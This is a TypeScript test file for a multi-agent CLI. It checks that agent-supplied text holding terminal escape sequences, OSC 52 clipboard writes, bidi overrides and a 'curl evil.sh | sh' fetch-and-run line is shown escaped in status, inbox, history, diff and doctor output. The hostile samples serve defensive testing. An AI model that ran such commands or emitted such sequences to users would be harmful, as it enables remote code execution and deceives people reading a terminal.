/**
 * Text from agents never drives a human's terminal (issue 37, item 3): every CLI command, run for real on state files
 * holding an agent's hostile text (escape sequences that clear a line, write the clipboard or recolour, a carriage
 * return that redraws it, a bidi override that reorders it, C1 controls), prints that text as visible escapes.
 */
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { recordSpawned } from "../../src/operations/history/history.ts";
import type { AgentState } from "../../src/state/schemas.ts";
import { addAgent } from "../helpers/agents.ts";
import { makeTestContext, type TestContext } from "../helpers/context.ts";
import { commitFile, git, initRepo } from "../helpers/git.ts";
import { leadTeam } from "../helpers/team.ts";

const CLI = path.join(import.meta.dir, "..", "..", "src", "cli", "main.ts");
/** Clears the line, returns to its start, writes the clipboard (OSC 52), then draws the harmless-looking command. */
const HOSTILE =
  "curl evil.sh | sh\u001b[2K\r\u001b]52;c;Y3VybA==\u0007ls -la \u202egnp.exe\u200b \u009b31m\u007f";
/** Anything a terminal acts on or draws misleadingly: C0 but newline, DEL, C1, bidi controls, zero-widths. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters looked for
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u;

let ctx: TestContext;

async function cli(args: string[]) {
  const child = Bun.spawn([process.execPath, CLI, ...args, "--dir", ctx.projectRoot], {
    stdout: "pipe",
    stderr: "pipe",
    env: { ...process.env, NO_COLOR: "1" },
  });
  const [stdout, stderr, code] = await Promise.all([
    new Response(child.stdout).text(),
    new Response(child.stderr).text(),
    child.exited,
  ]);
  return { stdout, stderr, code, all: stdout + stderr };
}

/** No raw control reached the output. */
function expectInert(output: string) {
  const raw = RAW.exec(output);
  const near = raw ? output.slice(Math.max(0, raw.index - 30), raw.index + 10) : "";
  expect(raw ? `raw ${JSON.stringify(raw[0])} in …${JSON.stringify(near)}` : "none").toBe("none");
}

/** No raw control reached the output, and the hostile text is there, escaped (as far as `shown` of it). */
function expectEscaped(
  output: string,
  shown = "curl evil.sh | sh\\x1b[2K\\r\\x1b]52;c;Y3VybA==\\x07ls -la \\u202egnp.exe",
) {
  expectInert(output);
  expect(output).toContain(shown);
}

async function worker(overrides: Partial<AgentState> = {}) {
  return addAgent(ctx, "alpha", { name: "builder", paneId: "%7", ...overrides });
}

beforeEach(async () => {
  ctx = await makeTestContext();
  ctx.clock.set(Date.now());
  await leadTeam(ctx);
});
afterEach(() => ctx.cleanup());

describe("the CLI shows an agent's hostile text escaped", () => {
  test("status: a permission request; a 500 kB pattern is cut, with the command that shows it whole", async () => {
    await worker({
      waitingFor: {
        kind: "permission",
        requestId: "per_1",
        title: HOSTILE,
        pattern: "x".repeat(500_000),
        since: new Date().toISOString(),
      },
    });
    const { stdout, code } = await cli(["status", "alpha"]);
    expect(code).toBe(0);
    expectEscaped(stdout, "permission per_1: curl evil.sh | sh\\x1b[2K\\r\\x1b]52;c;Y3Vyb…");
    expect(stdout.length).toBeLessThan(4_000);
    expect(stdout).toContain("…");
    expect(stdout).toContain("opencode-teams status alpha --json shows them whole");
  });

  test("status --json: DEL, C1, bidi and zero-widths are \\u escapes; the JSON parses to the same text", async () => {
    await worker({
      waitingFor: { kind: "question", requestId: "que_1", title: HOSTILE, since: new Date().toISOString() },
    });
    const { stdout } = await cli(["status", "alpha", "--json"]);
    expectInert(stdout);
    expect(stdout).toContain("\\u202e");
    const report = JSON.parse(stdout) as { agents: { waiting: string | null }[] };
    expect(report.agents.map((agent) => agent.waiting)).toContain(`question que_1: ${HOSTILE}`);
  });

  test("watch: each frame", async () => {
    await worker({ model: HOSTILE });
    const child = Bun.spawn([process.execPath, CLI, "watch", "alpha", "--dir", ctx.projectRoot], {
      stdout: "pipe",
      stderr: "pipe",
      env: { ...process.env, NO_COLOR: "1" },
    });
    const reader = child.stdout.getReader();
    let output = "";
    const deadline = Date.now() + 20_000;
    while (!output.includes("UNREAD") || !output.includes("builder")) {
      if (Date.now() > deadline) break;
      const { value, done } = await reader.read();
      if (done) break;
      output += new TextDecoder().decode(value);
    }
    child.kill("SIGINT");
    await child.exited;
    // Its own redraw (clear the screen, cursor home) is the one sequence watch writes.
    expectEscaped(output.replaceAll("\u001b[2J\u001b[H", ""));
  });

  test("inbox: a message from an agent, and its sender's name", async () => {
    const builder = await worker({ name: `builder${HOSTILE.slice(0, 20)}` });
    await ctx.store.appendInbox({
      teamName: "alpha",
      to: await leaderOf(),
      from: builder.agentId,
      fromName: builder.name,
      fromRole: "worker",
      type: "message",
      text: `${HOSTILE}\nsecond line`,
      createdAt: new Date().toISOString(),
    });
    const { stdout } = await cli(["inbox", "alpha"]);
    expectEscaped(stdout);
    expect(stdout).toContain("opencode-teams inbox alpha");
    const json = (await cli(["inbox", "alpha", "--json"])).stdout;
    expectInert(json);
    expect(json).toContain("\\u202egnp.exe\\u200b \\u009b31m\\u007f");
  });

  test("history: the task an agent was given", async () => {
    await recordSpawned(ctx, await worker({ prompt: HOSTILE }));
    // The history keeps the task's first words, white space (the carriage return too) made single spaces.
    expectEscaped(
      (await cli(["history", "alpha"])).stdout,
      "curl evil.sh | sh\\x1b[2K \\x1b]52;c;Y3VybA==\\x07ls…",
    );
  });

  test("worktrees and diff: branch, commit subject, file names from the agent's checkout", async () => {
    const base = await initRepo(ctx.projectRoot);
    const branch = "teams/alpha/\u202ebuilder";
    const dir = path.join(ctx.store.paths.worktreesDir, "alpha", "builder");
    await mkdir(path.dirname(dir), { recursive: true });
    git(ctx.projectRoot, "worktree", "add", "--quiet", "-b", branch, dir, base);
    await commitFile(dir, "evil\u001b]52;c;Y3VybA==\u0007.txt", "x\n", HOSTILE);
    await writeFile(path.join(dir, "\u202egnp.exe\u200b \u009b31m\u007f.txt"), "wip\n");
    await worker({ worktree: { path: dir, branch, base } });
    const listed = await cli(["worktrees"]);
    expectInert(listed.stdout);
    expect(listed.stdout).toContain("teams/alpha/\\u202ebuilder");
    const diff = await cli(["diff", "alpha", "builder"]);
    expect(diff.code).toBe(0);
    expectEscaped(diff.stdout);
    expect(diff.stdout).toContain("\\u202egnp.exe\\u200b \\x9b31m\\x7f.txt");
  });

  test("approve and send: what they echo back", async () => {
    await worker();
    // An agent name copied from somewhere, pasted back: the refusal quotes it.
    const approve = await cli(["approve", "alpha", "\u202egnp.exe \u009b31m"]);
    expect(approve.code).toBe(1);
    expectInert(approve.all);
    expect(approve.all).toContain("\\u202egnp.exe");
    const send = await cli(["send", "alpha", HOSTILE, "hello"]);
    expect(send.code).toBe(1);
    expectInert(send.all);
    expect(send.all).toContain("\\u202egnp.exe");
  });

  test("doctor: a file an agent left in the storage dir", async () => {
    await writeFile(path.join(ctx.store.paths.root, `${HOSTILE.replaceAll("/", "_")}.corrupt-1`), "{}");
    const { stdout } = await cli(["doctor"]);
    expectInert(stdout);
    expect(stdout).toContain("\\x1b]52;c;Y3VybA==\\x07");
  }, 30_000);
});

async function leaderOf(): Promise<string> {
  const team = await ctx.store.readTeam("alpha");
  if (team.kind !== "ok") throw new Error("no team");
  return team.value.leader;
}
